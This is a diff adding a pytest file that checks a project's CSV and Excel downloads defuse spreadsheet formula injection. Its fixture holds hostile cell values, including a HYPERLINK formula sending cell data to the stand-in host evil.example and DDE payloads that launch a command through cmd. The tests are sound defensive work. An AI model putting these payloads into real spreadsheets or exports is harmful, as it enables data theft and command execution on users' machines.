@@ -1,0 +1,82 @@
+"""Downloads never run a formula in a spreadsheet (OWASP: CSV injection), and the round trip stays lossless."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from gasatlas.config import PROJECT_ROOT
+from gasatlas.data import load_dataset, with_stored
+from gasatlas.exports import EVENT_COLUMNS, events_csv, events_excel, frame_records
+from gasatlas.sanitize import guard_cell, unguard_cell
+from gasatlas.store import EventStore, export_archive, import_csv
+
+from ..store.test_store import event
+
+ATLAS = load_dataset(PROJECT_ROOT / "data")
+FORMULAS = {
+    "title_en": '=HYPERLINK("https://evil.example/?x="&B2;"Source")',
+    "title_ru": "+cmd|' /C calc'!A0",
+    "summary_en": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary_ru": "-2+3+cmd|' /C calc'!A0",
+    "place_name_en": "＝1+1",  # the full-width equals sign Excel also reads as a formula
+    "quote": "'=already quoted once",
+}
+
+
+@pytest.fixture
+def stored(tmp_path) -> EventStore:
+    store = EventStore(f"sqlite:///{tmp_path / 'store.sqlite3'}")
+    store.save(ATLAS, [event("ev-2023-02-01-formula", **FORMULAS)])
+    return store
+
+
+def formula_row(store: EventStore) -> pd.DataFrame:
+    events = with_stored(ATLAS, *store.frames()).events
+    return events[events["id"] == "ev-2023-02-01-formula"]
+
+
+def test_the_excel_download_holds_text_cells_never_formulas(stored: EventStore) -> None:
+    sheet = openpyxl.load_workbook(io.BytesIO(events_excel(formula_row(stored)))).active
+    header = [cell.value for cell in sheet[1]]
+    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+
+    for field, text in FORMULAS.items():
+        assert row[field].data_type == "s", f"{field} must be a text cell"
+        assert row[field].value == text, "shown exactly as written"
+        assert row[field].quotePrefix, "and stays text when the cell is edited"
+    assert row["lat"].data_type == "n", "numbers stay numbers"
+    assert pd.read_excel(io.BytesIO(events_excel(formula_row(stored))))["title_en"][0] == FORMULAS["title_en"]
+
+
+def test_the_csv_download_starts_formula_cells_with_an_apostrophe(stored: EventStore) -> None:
+    text = events_csv(frame_records(formula_row(stored), EVENT_COLUMNS))
+    cells = next(csv.DictReader(io.StringIO(text)))
+
+    for field, value in FORMULAS.items():
+        assert cells[field] == "'" + value
+    assert pd.read_csv(io.StringIO(text))["title_en"][0].startswith("'=")
+    assert not cells["lon"].startswith("'") and not cells["id"].startswith("'")
+
+
+def test_the_stored_events_archive_is_guarded_and_reimports_losslessly(stored: EventStore, tmp_path) -> None:
+    with zipfile.ZipFile(io.BytesIO(export_archive(stored))) as archive:
+        events_text = archive.read("events.csv").decode("utf-8")
+        actors_text = archive.read("actors.csv").decode("utf-8")
+    assert next(csv.DictReader(io.StringIO(events_text)))["title_en"].startswith("'=")
+
+    copy = EventStore(f"sqlite:///{tmp_path / 'copy.sqlite3'}")
+    import_csv(copy, ATLAS, events_text, actors_text)
+
+    assert [e.model_dump() for e in copy.events()] == [e.model_dump() for e in stored.events()]
+    assert copy.events()[0].title_en == FORMULAS["title_en"]
+
+
+@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "'Tis", "-", "", "plain", "a=b", "\t=x", "@", "＋1"])
+def test_guarding_a_cell_can_always_be_undone(text: str) -> None:
+    assert unguard_cell(guard_cell(text)) == text
